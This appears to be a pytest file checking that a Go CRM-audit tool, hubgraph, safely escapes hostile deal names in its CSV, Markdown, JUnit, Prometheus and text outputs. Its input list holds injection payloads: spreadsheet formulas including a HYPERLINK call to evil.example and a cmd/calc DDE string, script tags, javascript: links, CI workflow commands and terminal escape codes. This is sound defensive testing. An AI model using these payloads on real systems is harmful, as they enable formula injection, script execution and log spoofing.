"""Every format of every result is read by a program that is not ours, of a portal whose names are hostile."""

import csv
import json
import os
import subprocess
import urllib.request
from pathlib import Path

import pytest
from junitparser import Error, Failure, JUnitXml, Skipped
from markdown_it import MarkdownIt
from prometheus_client.parser import text_string_to_metric_families

ROOT = Path(__file__).parent.parent
ENDINGS = ["json", "ndjson", "csv", "md", "junit.xml", "prom", "txt"]
NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1;"x")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1", "a\n=1+1", " =2", "a;=1+1", "\u200b=1",
    "a | b | c", "`code` ``x``", "[x](javascript:alert(1))", "<script>alert(1)</script>", "![x](http://evil.example/x.png)", "**bold** _it_ ~~no~~",
    "www.evil.example", "https://evil.example/", "mail@evil.example", "a \\| b \\", "| --- |", "# x", "&lt;b&gt; &#124;",
    '"}\n# HELP x\nx 1', 'back\\slash"quote', "::error::x", "##[error]x", "]]></failure>", "\x1b[31mred", "\u202eright", "Röstérei 咖啡 🚚",
]


def quoted(name):
    """A name in the portal language, with the escapes of Go."""
    return json.dumps(name, ensure_ascii=False)


@pytest.fixture(scope="module")
def results(tmp_path_factory):
    """The folder of all files: KIND.ENDING, with the deals' names of the first night in them."""
    folder = tmp_path_factory.mktemp("formats")
    program = folder / "hubgraph"
    subprocess.run(["go", "build", "-o", str(program), "./cmd/hubgraph"], cwd=ROOT, check=True)
    portal = ["portal 77 currency=EUR", "pipeline deals default Sales", "stage deals default open Open isClosed=false probability=0.2",
              "contacts 101 created=2025-01-01T00:00:00Z", "companies 201 created=2025-01-01T00:00:00Z"]
    night = []
    for i, name in enumerate(NAMES):
        portal.append(f"deals {301 + i} created=2025-01-01T00:00:00Z pipeline=default dealstage=open amount=5 dealname={quoted(name)}")
        portal += [f"contacts 101 -> deals {301 + i}", f"companies 201 -> deals {301 + i}"]
        night += [f"unlink deals {301 + i} contacts 101", f"unlink deals {301 + i} companies 201"]
    (folder / "portal.txt").write_text("\n".join(portal) + "\n")
    sim = subprocess.Popen([program, "sim", "--portal", "portal.txt", "--token", TOKEN], cwd=folder, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
    try:
        url = sim.stdout.readline().strip()
        assert url.startswith("http://127.0.0.1:")
        environment = {**os.environ, "HUBSPOT_BASE_URL": url, "HUBSPOT_ACCESS_TOKEN": TOKEN}

        def hubgraph(kind, *arguments):
            outputs = [word for ending in ENDINGS for word in ("--output", f"{kind}.{ending}")]
            done = subprocess.run([program, *arguments, *outputs], cwd=folder, env=environment, capture_output=True, text=True)
            assert done.returncode in (0, 6), done.stderr

        hubgraph("first", "run")
        urllib.request.urlopen(urllib.request.Request(url + "/_sim/night", data="\n".join(night).encode(), method="POST")).close()
        hubgraph("run", "run")
        hubgraph("audit", "audit", "--stored", "last")
        hubgraph("findings", "findings", "--state", "all")
        hubgraph("groups", "findings", "--group-by", "age")
        hubgraph("diff", "diff")
    finally:
        sim.terminate()
        sim.wait()
        sim.stdout.close()
    return folder


TOKEN = "token-of-the-portal"
KINDS = ["first", "run", "audit", "findings", "groups", "diff"]


def document(results, kind):
    return json.loads((results / f"{kind}.json").read_text())


def test_names_came_through(results):
    """The portal holds the names, else the tests below find nothing."""
    names = {f["subject_name"] for f in document(results, "run")["findings"] if f["check"] == "deal_fully_orphaned"}
    assert len(names) == len(NAMES)
    assert {"a | b | c", "<script>alert(1)</script>", "::error::x"} <= names


@pytest.mark.parametrize("kind", KINDS)
def test_csv(results, kind):
    with open(results / f"{kind}.csv", newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file, strict=True))
    lists = {"first": "findings", "run": "findings", "audit": "findings", "findings": "findings", "groups": "groups", "diff": "differences"}
    assert len(rows) == 1 + len(document(results, kind)[lists[kind]])
    assert {len(row) for row in rows} == {len(rows[0])}
    for cell in (cell for row in rows for cell in row):
        for part in cell.replace("\r", "\n").replace(";", "\n").replace("\t", "\n").split("\n"):
            bare = part.strip(" \u00a0\u200b\"")
            if bare[:1] and bare[0] in "=+-@":
                float(bare)  # a number, or else a formula


@pytest.mark.parametrize("kind", KINDS)
def test_ndjson(results, kind):
    lines = [json.loads(line) for line in (results / f"{kind}.ndjson").read_text().splitlines()]
    whole = document(results, kind)
    for name, of in {"finding": "findings", "check": "checks", "group": "groups", "difference": "differences"}.items():
        got = [{k: v for k, v in line.items() if k != "type"} for line in lines if line["type"] == name]
        assert got == whole.get(of, [])


@pytest.mark.parametrize("kind", KINDS)
def test_markdown(results, kind):
    text = (results / f"{kind}.md").read_text()
    html = MarkdownIt("gfm-like", {"linkify": False}).enable("table").render(text)
    for tag in ("<a ", "<script", "<img", "<strong>bold", "<em>it", "<s>", "<code>code"):
        assert tag not in html
    assert "<h1>" in html and "<table>" in html
    tokens = MarkdownIt("commonmark").enable("table").parse(text)
    columns, width = 0, 0
    for token in tokens:
        if token.type == "tr_open":
            columns = 0
        if token.type in ("th_open", "td_open"):
            columns += 1
        if token.type == "thead_open":
            width = 0
        if token.type == "tr_close":
            assert width in (0, columns), text
            width = columns
    assert sum(token.type == "heading_open" and token.tag == "h1" for token in tokens) == 1
    if kind == "run":
        cells = [child.content for token in tokens if token.type == "inline" for child in token.children if child.type == "text"]
        assert any("a | b | c" in cell for cell in cells)


@pytest.mark.parametrize("kind", KINDS)
def test_junit(results, kind):
    xml = JUnitXml.fromfile(str(results / f"{kind}.junit.xml"))
    cases = [case for suite in xml for case in suite]
    results_of = [type(result) for case in cases for result in case.result]
    assert (xml.tests, xml.failures, xml.errors, xml.skipped) == (len(cases), results_of.count(Failure), results_of.count(Error), results_of.count(Skipped))
    whole = document(results, kind)
    if "checks" in whole:
        assert sorted(case.name for case in cases) == sorted(check["id"] for check in whole["checks"])
        assert xml.failures == sum(check["status"] == "fail" for check in whole["checks"])
    if kind == "findings":
        assert xml.failures == sum(f["state"] != "resolved" for f in whole["findings"]) >= len(NAMES)


@pytest.mark.parametrize("kind", KINDS)
def test_prometheus(results, kind):
    families = list(text_string_to_metric_families((results / f"{kind}.prom").read_text()))
    names = [family.name for family in families]
    assert len(names) == len(set(names)) and all(name.startswith("hubgraph_") for name in names)
    assert all(family.type == "gauge" and family.documentation for family in families)
    samples = {(s.name, tuple(sorted(s.labels.items()))): s.value for family in families for s in family.samples}
    assert len(samples) == sum(len(family.samples) for family in families)
    whole = document(results, kind)
    for check in whole.get("checks", []):
        labels = (("check", check["id"]), ("portal", "77"), ("severity", check["severity"]))
        assert samples.get(("hubgraph_check_findings", labels)) == check["violations"]
    for count in whole.get("counts", []) if kind == "diff" else []:
        assert samples[("hubgraph_differences", (("change", count["change"]), ("portal", "77"), ("section", count["section"])))] == count["count"]


@pytest.mark.parametrize("kind", KINDS)
def test_text_steers_no_terminal(results, kind):
    text = (results / f"{kind}.txt").read_text()
    assert text.strip() and not any(c in text for c in "\x1b\u202e\u200b\t\r")
